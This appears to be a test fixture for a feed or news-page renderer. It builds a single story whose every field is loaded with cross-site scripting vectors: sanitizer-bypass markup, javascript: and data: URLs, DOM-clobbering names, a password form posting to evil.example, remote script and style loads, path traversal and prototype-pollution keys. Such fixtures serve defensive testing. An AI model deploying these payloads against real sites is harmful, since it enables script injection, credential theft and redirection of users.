// @ts-check
/** A story every field of which carries markup, scripts or addresses that no page may follow. */

import { story } from './feeds.mjs';

const EVIL = 'https://evil.example';

/** Runs if a field is ever taken for markup. */
export const MARKUP = (/** @type {string} */ name) =>
  `"'><img src=x onerror="window.__hit='${name}'"><svg onload="window.__hit='${name}'"></svg><script>window.__hit='${name}'</script>`;

/** Vectors that a body may carry, one to a line. */
const VECTORS = `
<script>window.__hit='script'</script><script src="${EVIL}/x.js"></script>
<SCRIPT/src="${EVIL}/y.js"></SCRIPT><scr<script>ipt>window.__hit='nested'</scr</script>ipt>
<img src="picture.svg" onerror="window.__hit='onerror'" onload="window.__hit='onload'" alt="A" style="position:fixed" id="announce-polite" name="getElementById">
<img src="javascript:window.__hit='img'" alt="B"><img src="data:text/html,<script>window.__hit=1</script>" alt="C">
<img name="querySelector" src="picture.svg" alt="D"><img name="body" src="picture.svg" alt="E"><img name="head" src="picture.svg" alt="F">
<svg onload="window.__hit='svg'"><script>window.__hit='svg script'</script><a xlink:href="javascript:window.__hit='xlink'"><text>svg link</text></a><image href="${EVIL}/i.svg"/><use href="${EVIL}/u.svg#x"/><animate onbegin="window.__hit='begin'" attributeName="x" dur="1s"/><foreignObject><iframe src="${EVIL}/f"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__hit='mxss'&gt;"></mglyph></table></mtext><a href="javascript:window.__hit='math'">math</a></math>
<iframe src="${EVIL}/frame"></iframe><iframe src="javascript:window.__hit='iframe'"></iframe><iframe srcdoc="<script>parent.__hit='srcdoc'</script>"></iframe><iframe src="https://www.youtube.com.evil.example/embed/aaaaaaaaaaa"></iframe><iframe src="//www.youtube-nocookie.com@evil.example/embed/aaaaaaaaaaa"></iframe>
<form action="${EVIL}/login" id="dateline"><input name="password" autofocus onfocus="window.__hit='focus'"><button formaction="javascript:window.__hit='formaction'">Sign in</button></form>
<base href="${EVIL}/"><meta http-equiv="refresh" content="0;url=${EVIL}/"><link rel="stylesheet" href="${EVIL}/x.css"><link rel="prefetch" href="${EVIL}/p">
<style>@import "${EVIL}/s.css"; body{display:none!important}</style><p style="background:url(${EVIL}/bg);position:fixed;inset:0" class="recovery" onclick="window.__hit='click'" onmouseover="window.__hit='over'">styled</p>
<object data="${EVIL}/o"></object><embed src="${EVIL}/e"><applet code="x"></applet><video src="${EVIL}/v" poster="${EVIL}/poster" autoplay onerror="window.__hit='video'"><source src="${EVIL}/v2" onerror="window.__hit='source'"></video><audio src="${EVIL}/a" autoplay></audio>
<a href="javascript:window.__hit='a'">one</a> <a href=" &#1;java&#x0A;script:window.__hit='a2'">two</a> <a href="JaVaScRiPt&colon;window.__hit='a3'">three</a> <a href="data:text/html,<script>window.__hit=1</script>">four</a> <a href="vbscript:x">five</a> <a href="blob:${EVIL}/x">six</a> <a href="https://user:secret@evil.example/">seven</a> <a href="//evil.example/relative" ping="${EVIL}/ping" target="_top" onclick="window.__hit='onclick'" id="datelineBoot">eight</a> <a href="mailto:desk@paper.example">nine</a>
<template><img src=x onerror="window.__hit='template'"></template><noscript><p title="</noscript><img src=x onerror=window.__hit='noscript'>"></p></noscript><textarea><img src=x onerror=window.__hit='textarea'></textarea><title><img src=x onerror=window.__hit='title'></title><xmp><img src=x onerror=window.__hit='xmp'></xmp>
<details open ontoggle="window.__hit='toggle'"><summary>more</summary>text</details><dialog open>dialog</dialog><marquee onstart="window.__hit='marquee'">m</marquee><div contenteditable onfocus="window.__hit='ce'" tabindex="0" autofocus accesskey="x">ce</div>
<table background="${EVIL}/t"><tr><td onclick="window.__hit='td'" background="${EVIL}/td">cell</td></tr></table>
<blockquote cite="javascript:window.__hit='cite'" onclick="window.__hit='quote'">quoted</blockquote><p>&lt;img src=x onerror=window.__hit='decoded'&gt;</p><p>&amp;lt;script&amp;gt;window.__hit='twice'&amp;lt;/script&amp;gt;</p>
<custom-element onclick="window.__hit='custom'" is="x">custom</custom-element><p slot="x" part="y" popover popovertarget="main">slot</p><p>the last words of the story</p>`;

/** Words that the story has besides, so that it is known to be there. */
export const LAST_WORDS = 'the last words of the story';

export const HOSTILE = story(1, {
  id: MARKUP('id'),
  url: "javascript:window.__hit='url'",
  external_url: "javascript:window.__hit='external'",
  title: `</script><script>window.__hit='title'</script> ${MARKUP('title')} Headline`,
  summary: `${MARKUP('summary')} Standfirst`,
  content_html: VECTORS,
  image: 'picture.svg',
  banner_image: "javascript:window.__hit='banner'",
  authors: [
    { name: MARKUP('author'), url: "javascript:window.__hit='author url'", _role: MARKUP('role') },
    { name: 'Data', url: "data:text/html,<script>window.__hit='data'</script>" },
  ],
  tags: [MARKUP('tag'), '</title><script>window.__hit=1</script>'],
  language: '"><script>window.__hit=1</script>',
  _dateline: {
    slug: '../../evil"><script>',
    section: { id: '"><script>', name: MARKUP('section') },
    kicker: MARKUP('kicker'),
    place: MARKUP('place'),
    breaking: true,
    breaking_until: '2100-01-01T00:00:00Z',
    featured: true,
    image: {
      width: 1200,
      height: 800,
      alt: MARKUP('alt'),
      caption: MARKUP('caption'),
      credit: MARKUP('credit'),
      credit_url: "javascript:window.__hit='credit url'",
      focus: ['50%;background:url(//evil.example)', 'x'],
      srcset: [{ url: "javascript:window.__hit='srcset'", width: 640 }, { url: 'picture.svg, https://evil.example/x', width: 320 }],
    },
    corrections: [{ date: '2023-09-17T18:05:00Z', text: MARKUP('correction') }],
    related: ['__proto__', 'constructor', 'story-2'],
  },
});
